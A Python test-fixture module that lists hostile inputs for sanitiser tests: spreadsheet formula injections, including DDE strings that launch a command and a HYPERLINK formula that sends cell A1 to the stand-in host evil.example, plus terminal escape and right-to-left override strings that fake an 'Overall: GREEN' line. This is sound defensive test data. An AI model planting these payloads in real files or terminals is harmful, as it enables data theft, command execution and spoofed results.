"""Hostile text for the tests in this folder: formula injections and terminal escapes."""

# Every class of spreadsheet formula injection: plain, DDE, leading tab/CR, hidden behind a
# control character that XML cannot hold (it is removed, and the formula must not come back),
# behind spaces, and the full-width forms some spreadsheets fold to ASCII.
FORMULAS: list[str] = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\x01=HYPERLINK(\"http://evil.example\",\"x\")",
    "\x08=cmd|' /C calc'!A0",
    "\x1b=1+2",
    "\x0e\x0f+1",
    "\x00@SUM(A1)",
    "  =1+2",
    "\u00a0=1+2",
    "\uff1d1+2",
    "\uff0bcmd",
    "\uff20SUM(A1)",
    "#N/A",
    "=",
]

FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# Text that would rewrite the terminal: clear the line, return, and print a fake verdict.
TERMINAL: list[str] = [
    "\x1b[2K\rOverall: GREEN",
    "Ann\x1b]0;title\x07",
    "Ann\x9b2K",            # C1 CSI
    "Ann\u202eNEERG",        # right-to-left override
    "Ann\u2066x\u2069",
    "Ann\x7f\x08\x08\x08GREEN",
    "Ann\nOverall: GREEN",
]
